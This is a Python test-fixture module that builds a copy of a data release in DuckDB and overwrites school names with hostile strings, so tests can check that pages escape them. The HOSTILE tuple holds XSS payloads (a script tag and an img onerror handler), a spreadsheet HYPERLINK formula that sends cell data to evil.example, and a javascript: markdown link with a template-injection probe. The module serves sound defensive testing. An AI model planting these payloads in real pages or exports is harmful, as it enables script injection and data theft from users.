"""Homes for the tests of pages: small copies of a release that a test may change.

What belongs here: building them. What does not: what pages must show.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import duckdb

from opora.home import Home
from opora.release import DATABASE, MANIFEST, switch_current

HOSTILE = (
    '<script>document.title="взлом"</script><img src=x onerror="document.title=1">',
    '=HYPERLINK("http://evil.example/?"&A1,"Школа")',
    "[Школа](javascript:alert(1)) **жирно** {{7*7}}",
)


def copy_of_release(home: Home, root: Path, release_id: str = "copy") -> Home:
    """A home with one release: what the pages read of the current release of another home."""
    made = Home(root).ensure()
    folder = made.releases / release_id
    for name in (MANIFEST, "dictionary.json", f"official/{DATABASE}", f"public/{DATABASE}"):
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(home.current / name, target)
    manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    (folder / MANIFEST).write_text(json.dumps(manifest | {"release_id": release_id}), encoding="utf-8")
    switch_current(made, folder)
    return made


def change(home: Home, statement: str, values: list[object] | None = None, *, release_id: str = "copy") -> None:
    """Run a statement over both profiles of a copied release."""
    for profile in ("official", "public"):
        with duckdb.connect(str(home.releases / release_id / profile / DATABASE)) as connection:
            connection.execute(statement, values)


def give_hostile_names(home: Home, school_ids: list[str]) -> None:
    """Names that would run if a page or a spreadsheet took them for code."""
    for school_id, name in zip(school_ids, HOSTILE, strict=True):
        change(home, "update school set school_name = ? where school_id = ?", [name, school_id])
